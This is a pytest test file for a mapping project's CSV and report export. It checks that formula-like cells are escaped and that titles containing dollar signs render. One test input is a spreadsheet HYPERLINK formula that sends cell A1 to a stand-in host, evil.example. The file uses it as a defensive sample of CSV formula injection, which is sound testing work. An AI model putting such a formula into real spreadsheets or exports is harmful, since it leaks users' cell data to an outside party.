"""Exports a spreadsheet opens without running formulas; report titles with ``$`` draw as text."""

from __future__ import annotations

import csv
import io

import pytest

from corridors.export import to_csv_text
from corridors.frames import entities_frame


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("https://evil.example/?x="&A1,"Aktau")', "+1+2", "-2+3", "@SUM(A1:A2)", "\tTab", "\rCR"],
)
def test_csv_cells_that_start_a_formula_are_neutralised(shipped_catalog, name):
    frame = entities_frame(shipped_catalog)
    frame.loc[0, "name"] = name
    frame.at[0, "aliases"] = [name]
    rows = list(csv.DictReader(io.StringIO(to_csv_text(frame), newline="")))
    expected = "'" + name.replace("\r", "\n")
    assert rows[0]["name"] == expected
    assert rows[0]["aliases"] == expected
    assert len(rows) == len(frame)
    numbers = [row["lon"] for row in rows if row["lon"]]
    assert numbers and all(not value.startswith("'") for value in numbers)


def test_ordinary_cells_are_unchanged(shipped_catalog):
    frame = entities_frame(shipped_catalog)
    rows = list(csv.DictReader(io.StringIO(to_csv_text(frame))))
    assert [row["id"] for row in rows] == list(frame["id"])
    assert not any(row["name"].startswith("'") for row in rows)


@pytest.fixture(scope="module")
def report_inputs(countries):
    from corridors.atlas import load_atlas
    from corridors.query import Filters, apply_filters, facet_values
    from geo.basemap import simplify_for_display

    atlas = load_atlas({})
    entities, legs = atlas.entities(), atlas.legs()
    shown, shown_legs = apply_filters(entities, legs, Filters(**facet_values(entities, legs)))
    return simplify_for_display(countries, tolerance_deg=0.05), shown, shown_legs


@pytest.mark.parametrize("title", [r"$\foo$", r"Costs in $ and $\frac{1}{", "50% of $x^2$ \\"])
def test_report_titles_with_dollars_and_backslashes_export(report_inputs, title):
    from geo.render import DEFAULT_VIEW_BOUNDS, number_quotes
    from geo.report import ReportSettings
    from geo.static_map import draw_report_figure, render_figure

    countries, shown, shown_legs = report_inputs
    shown = shown.copy()
    shown.loc[shown.index[0], "name"] = r"Port $\bar$"
    figure = draw_report_figure(
        countries,
        shown,
        shown_legs,
        number_quotes(shown),
        bounds=DEFAULT_VIEW_BOUNDS,
        settings=ReportSettings(title=title, subtitle=r"sub $\x$"),
        source_titles={},
        credit=r"credit $\y$",
    )
    assert render_figure(figure, "png", scale=1.0)[:8] == b"\x89PNG\r\n\x1a\n"
    assert render_figure(figure, "pdf")[:5] == b"%PDF-"
    svg = render_figure(figure, "svg").decode("utf-8")
    assert title.replace("&", "&amp;").replace("<", "&lt;") in svg
